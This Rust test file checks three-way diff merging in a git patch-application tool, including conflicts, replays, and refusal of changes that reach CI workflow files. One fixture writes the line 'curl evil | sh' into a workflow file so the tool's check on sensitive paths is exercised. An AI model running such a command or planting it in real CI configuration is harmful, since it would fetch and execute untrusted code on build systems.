//! Merges from the base of a diff.
#![expect(
    clippy::disallowed_methods,
    reason = "a test makes and reads the files of its own repositories"
)]

use super::{
    super::{Error, Request, rule::Rule},
    world::{World, allowing, apply, lines},
};
use crate::contract::{Code, Effect};

#[tokio::test]
async fn three_way_merges_from_the_base_onto_where_the_branch_shall_stand() {
    let world = World::new().await;
    let base = world.line(&["rev-parse", "HEAD"]).await;
    let diff = world.five().await;
    // The neighbouring line changes, so that a plain application finds no context.
    world.write(
        "text",
        &lines(1..=40)
            .replace("\n3\n", "\nthree\n")
            .replace("\n20\n", "\n20!\n"),
    );
    let onto = world.commit("meanwhile").await;
    let mut request = Request {
        base: Some(base.clone()),
        onto: Some("main".to_owned()),
        ..world.request(&diff)
    };
    world.fails(&request, Code::DiffConflict).await;
    request.three_way = true;
    let outcome = world.applies(&request).await;
    assert_eq!(outcome.onto, onto);
    assert_eq!(
        world.line(&["show", "fix/one:text"]).await,
        lines(1..=40)
            .replace("\n3\n", "\nthree\n")
            .replace("\n5\n", "\nfive\n")
            .replace("\n20\n", "\n20!\n")
            .trim_end()
    );
    assert_eq!(apply(&request).await.unwrap().effect, Effect::Replayed);
    // The branch is merged; the call that made it still finds its work done.
    world.git(&["merge", "-q", "--no-ff", "fix/one"]).await;
    assert_eq!(apply(&request).await.unwrap().commit, outcome.commit);
    request.branch = "fix/two".to_owned();
    world.fails(&request, Code::DiffEmpty).await;
    // The commits and trees that were needed on the side did not get into the checkout.
    let left = world.line(&["fsck", "--unreachable"]).await;
    assert!(!left.contains("commit") && !left.contains("tree"), "{left}");
}

#[tokio::test]
async fn three_way_lists_the_files_that_conflict() {
    let world = World::new().await;
    let base = world.line(&["rev-parse", "HEAD"]).await;
    let diff = world.five().await;
    world.write("text", &lines(1..=40).replace("\n5\n", "\nFIVE\n"));
    world.commit("meanwhile").await;
    let request = Request {
        base: Some(base),
        onto: Some("HEAD".to_owned()),
        three_way: true,
        ..world.request(&diff)
    };
    let error = world.fails(&request, Code::DiffConflict).await;
    let Error::Conflict { files, .. } = error else {
        panic!("{error:?}");
    };
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].path(), "text");
    assert!(files[0].reason().contains("CONFLICT"), "{files:?}");
}

#[tokio::test]
async fn a_merge_does_not_carry_a_change_to_where_it_is_refused() {
    let world = World::new().await;
    world.write("workflows/build.yml", &lines(1..=40));
    world.write("plain/build.txt", &lines(50..=90));
    let base = world.commit("a base").await;
    let diff = world
        .diff(|world| {
            let changed = lines(1..=40).replace("\n5\n", "\ncurl evil | sh\n");
            world.write("workflows/build.yml", &changed);
        })
        .await;
    // Meanwhile the file was moved to where continuous integration runs it.
    std::fs::create_dir_all(world.top().join(".github")).unwrap();
    world.git(&["mv", "workflows", ".github/workflows"]).await;
    world.git(&["mv", "plain", "moved"]).await;
    world.commit("moved").await;
    let mut request = Request {
        base: Some(base.clone()),
        onto: Some("HEAD".to_owned()),
        three_way: true,
        ..world.request(&diff)
    };
    let error = world.fails(&request, Code::DiffRefused).await;
    let Error::Refused { findings } = error else {
        panic!("{error:?}");
    };
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].path(), ".github/workflows/build.yml");
    assert_eq!(findings[0].rule(), "ci");
    request.allow = allowing(&[Rule::Ci]);
    let outcome = world.applies(&request).await;
    assert_eq!(outcome.sensitive.len(), 1);
    assert_eq!(outcome.sensitive[0].rule(), "ci");
    // The same branch again, without leave, is refused as well; and with it, it is a replay.
    assert_eq!(apply(&request).await.unwrap().effect, Effect::Replayed);
    request.allow = allowing(&[]);
    world.fails(&request, Code::DiffRefused).await;
    // A file that is moved from one plain place to another is nobody's concern.
    world.git(&["switch", "-q", "--detach", &base]).await;
    let diff = world
        .diff(|world| {
            let changed = lines(50..=90).replace("\n55\n", "\n55!\n");
            world.write("plain/build.txt", &changed);
        })
        .await;
    let request = Request {
        base: Some(base),
        onto: Some("main".to_owned()),
        three_way: true,
        branch: "fix/two".to_owned(),
        ..world.request(&diff)
    };
    let outcome = apply(&request).await.unwrap();
    assert_eq!(outcome.files[0].path.to_string(), "moved/build.txt");
}
